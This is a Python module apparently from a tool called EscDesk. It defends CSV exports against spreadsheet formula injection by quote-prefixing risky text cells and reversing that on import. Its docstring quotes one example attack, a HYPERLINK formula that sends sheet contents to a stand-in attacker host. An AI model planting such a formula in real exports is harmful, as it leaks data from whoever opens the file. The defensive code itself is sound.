"""Text cells of the CSV files EscDesk writes for people to open, made safe from formula injection (no Qt here).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and a tab or carriage return
in front of one is skipped), so a customer named `=HYPERLINK("http://evil.example/?x="&A1,"Click me")` would
become a live link that leaks the sheet. The OWASP rule: such a cell is written with a single quote in front,
which spreadsheets show as plain text.

The rule EscDesk applies, so that its own importers can undo it exactly (an export read back is byte-identical):
- only text columns are protected; numeric columns (amounts, counts) are written as they are, so "-5" stays a
  number the spreadsheet can add up;
- a text cell is prefixed with one `'` when its first character after any leading `'` is one of the
  triggers. The "after any leading quote" part makes the rule reversible: a name that really starts with
  `'=` is written `''=` and read back as `'=`;
- `restore_cell` removes exactly that one quote, and only from a cell of that shape.
"""

from __future__ import annotations

from collections.abc import Collection, Iterable, Mapping

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"


def _needs_quote(text: str) -> bool:
    first = text.lstrip(QUOTE)[:1]
    return first != "" and first in FORMULA_TRIGGERS


def protect_cell(text: str) -> str:
    """The text as a spreadsheet should receive it: a possible formula gets a leading quote."""
    return QUOTE + text if _needs_quote(text) else text


def restore_cell(text: str) -> str:
    """The text protect_cell was given (the inverse of protect_cell for every string)."""
    return text[1:] if text.startswith(QUOTE) and _needs_quote(text) else text


def protect_row(cells: Iterable[object], numeric: Collection[int] = ()) -> list[str]:
    """A row for csv.writer: every cell as text, protected unless its position is a numeric column."""
    return [str(cell) if i in numeric else protect_cell(str(cell)) for i, cell in enumerate(cells)]


def protect_record(record: Mapping[str, str], numeric: Collection[str] = ()) -> dict[str, str]:
    """A row for csv.DictWriter: the text columns protected, the numeric ones as they are."""
    return {name: value if name in numeric else protect_cell(value) for name, value in record.items()}


def restore_record(record: Mapping[str, str], numeric: Collection[str] = ()) -> dict[str, str]:
    """A row read back from a file EscDesk wrote: protect_record undone."""
    return {name: value if name in numeric else restore_cell(value) for name, value in record.items()}
